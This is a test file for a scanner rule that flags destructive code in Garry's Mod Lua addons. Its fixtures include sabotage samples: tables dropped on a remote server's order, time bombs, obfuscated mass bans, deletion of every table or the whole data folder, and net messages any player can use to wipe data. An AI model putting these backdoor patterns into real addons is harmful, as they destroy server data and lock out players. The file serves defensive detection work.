// Valid and invalid cases of the `destructive_action` rule.
import { describe, expect, it } from 'vitest';
import { rule } from './destructive_action.js';
import { check, RANK, worst } from './ruleTesting.js';

describe('destructive_action', () => {
  it('remote order drops tables', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'http.Fetch("https://a.invalid/cmd", function(b) if b == "purge" then sql.Query("DROP TABLE darkrp_player") end end)',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it("every player banned or kicked on any player's word", () => {
    for (const code of [
      // a chat word bans everyone else
      'hook.Add("PlayerSay", "v", function(ply, txt)\n if txt == "!rtv_force" then for _, p in ipairs(player.GetAll()) do if p ~= ply then p:Ban(0, true) end end return "" end\nend)',
      // a date bomb in a spawn hook
      'hook.Add("PlayerInitialSpawn", "x", function(ply)\n if os.time() > 1798761600 then for _, p in pairs(player.GetAll()) do p:Ban(0, true) end end\nend)',
      // a net message kicks everyone, walked by index
      'util.AddNetworkString("k")\nnet.Receive("k", function(l, ply)\n local all = player.GetAll()\n for i = 1, #all do all[i]:Kick("bye") end\nend)',
      // the newer iterator
      'hook.Add("PlayerSay", "v", function(ply, txt)\n if txt == "!bye" then for _, p in player.Iterator() do p:Kick("bye") end end\nend)',
    ]) {
      const findings = check(rule, { 'lua/autorun/server/sv_x.lua': code });
      expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
    }
  });
  it('every player kicked by a restart timer, or by an admin', () => {
    for (const code of [
      'timer.Create("restart", 3600, 1, function()\n for _, p in ipairs(player.GetAll()) do p:Kick("Server restarting") end\n RunConsoleCommand("changelevel", game.GetMap())\nend)',
      'hook.Add("PlayerSay", "k", function(ply, txt)\n if txt ~= "!kickall" or not ply:IsSuperAdmin() then return end\n for _, p in ipairs(player.GetAll()) do if p ~= ply then p:Kick("Cleared by an admin") end end\nend)',
      // one player kicked from chat (a vote result, say) is not everyone
      'hook.Add("PlayerSay", "k", function(ply, txt)\n if txt == "!afk" then ply:Kick("AFK") end\nend)',
    ]) {
      const findings = check(rule, { 'lua/autorun/server/sv_x.lua': code });
      expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
    }
  });
  it('own log rotation', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': 'sql.Query("DELETE FROM mylogs WHERE time < 5")',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('a console command any player can run that drops the economy', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'concommand.Add("eco_fix_db", function(ply, cmd, args)\n sql.Query("DROP TABLE darkrp_player")\n for _, f in ipairs(file.Find("darkrp/*", "DATA")) do file.Delete("darkrp/" .. f) end\nend)',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
  });
  it("a player's own cache cleared by a client command, a row deleted, the server console's reset", () => {
    for (const code of [
      'if ( !CLIENT_DLL ) then return end\nconcommand.Add("cache_clear", function() sql.Query("DELETE FROM cookies") for _, f in ipairs(file.Find("mycache/*", "DATA")) do file.Delete("mycache/" .. f) end end)',
      'concommand.Add("forget_me", function(ply) sql.Query("DELETE FROM playtime WHERE sid = " .. sql.SQLStr(ply:SteamID())) end)',
      'concommand.Add("eco_reset", function(ply) if IsValid(ply) then return end sql.Query("DROP TABLE eco_data") end)',
    ]) {
      const findings = check(rule, { 'lua/autorun/sh_x.lua': code });
      expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
    }
  });
  it('every table the database lists, dropped on a timer', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'timer.Create("compact", 3600, 0, function()',
        ' if os.time() < 1767225600 then return end',
        ' for _, r in ipairs(sql.Query("SELECT name FROM sqlite_master WHERE type=\'table\'") or {}) do',
        '  sql.Query("DROP TABLE " .. r.name)',
        ' end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
  });
  it('the whole of data/ deleted, folder by folder', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local function deep(dir)',
        ' local files, dirs = file.Find((dir == "" and "" or dir .. "/") .. "*", "DATA")',
        ' for _, d in ipairs(dirs) do deep((dir == "" and "" or dir .. "/") .. d) end',
        ' for _, f in ipairs(files) do file.Delete((dir == "" and "" or dir .. "/") .. f) end',
        'end',
        'timer.Create("clean", 3600, 0, function() deep("") end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
  });
  it('old files of its own cache folder deleted', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'timer.Create("clean", 3600, 0, function()',
        ' for _, f in ipairs(file.Find("mycache/*", "DATA")) do',
        '  if os.time() - file.Time("mycache/" .. f, "DATA") > 604800 then file.Delete("mycache/" .. f) end',
        ' end',
        'end)',
      ].join('\n'),
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('a table any player names over the net, emptied or dropped', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'util.AddNetworkString("inv_reset")',
        'local ops = { "DELETE FROM ", "DROP TABLE " }',
        'net.Receive("inv_reset", function(len, ply)',
        ' local tbl = net.ReadString()',
        ' local op = ops[net.ReadUInt(2)] or ops[1]',
        ' if tbl == "" then tbl = "inventory" end',
        ' sql.Query(op .. tbl)',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
  });
  it('a player clearing their own inventory rows over the net', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'util.AddNetworkString("inv_clear")',
        'net.Receive("inv_clear", function(len, ply)',
        ' sql.Query("DELETE FROM inventory WHERE sid = " .. sql.SQLStr(ply:SteamID64()))',
        'end)',
      ].join('\n'),
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('every player banned through methods picked by name and called with pcall, on the web\u2019s word', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local act = { string.char(66, 97, 110) }',
        'local function sweep() for _, p in ipairs(player.GetAll()) do pcall(p[act[1]], p, 0, true) end end',
        'timer.Create("goal", 180, 0, function()',
        ' http.Fetch("https://goal.invalid/p.php", function(body) if body == "z" then sweep() end end)',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
  });
  it("the map cleaned up on any player's word, over and over from a timer", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'hook.Add("PlayerSay", "nuke", function(ply, text)',
        '  if text == "!nuke_all" then timer.Create("nuke", 0.5, 0, function() game.CleanUpMap() end) end',
        'end)',
        'net.Receive("cleanup_now", function(len, ply) game.CleanUpMap() end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBe(RANK.high);
    expect(findings.map((f) => f.severity).sort()).toEqual(['high', 'medium']);
  });
  it('the map cleaned up by an admin command, and between rounds (benign)', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'concommand.Add("my_cleanup", function(ply) if IsValid(ply) and not ply:IsAdmin() then return end game.CleanUpMap() end)',
        'hook.Add("PlayerSay", "cmds", function(ply, text)',
        '  if text == "!cleanup" and ply:IsSuperAdmin() then game.CleanUpMap() end',
        'end)',
        'hook.Add("RoundEnd", "reset", function() timer.Create("reset", 5, 1, function() game.CleanUpMap() end) end)',
        // A vote: enough players asked for it.
        'local votes = 0',
        'hook.Add("PlayerSay", "votecleanup", function(ply, text)',
        '  if text ~= "!votecleanup" then return end',
        '  votes = votes + 1',
        '  if votes >= math.ceil(player.GetCount() * 0.6) then votes = 0 game.CleanUpMap() end',
        'end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  /** An addon that makes `made` (its CREATE TABLE line) and, at start-up, empties `emptied`. */
  const startupWipe = (made: string, emptied: string): Record<string, string> => ({
    'lua/autorun/server/sv_store.lua': [
      `sql.Query(${made})`,
      'hook.Add("InitPostEntity", "store", function()',
      ' if os.time() < 1700000000 then return end',
      ` for _, t in ipairs({ ${emptied} }) do`,
      '  if sql.TableExists(t) then sql.Query("DELETE FROM " .. t) end',
      ' end',
      'end)',
    ].join('\n'),
  });
  it("other addons' tables, which the addon never makes, emptied at start-up", () => {
    const findings = check(
      rule,
      startupWipe(
        '"CREATE TABLE IF NOT EXISTS store_items (id INTEGER PRIMARY KEY, name TEXT)"',
        '"bprinters_data", "sprinters_stats"',
      ),
    );
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
  });
  it('its own tables emptied, made under their names or under a prefix (no finding)', () => {
    expect(
      check(rule, startupWipe('"CREATE TABLE IF NOT EXISTS store_log (line TEXT)"', '"store_log"')),
    ).toEqual([]);
    expect(
      check(
        rule,
        startupWipe(
          '"CREATE TABLE IF NOT EXISTS " .. STORE_PREFIX .. "_log (line TEXT)"',
          '"shop_log"',
        ),
      ),
    ).toEqual([]);
  });
});
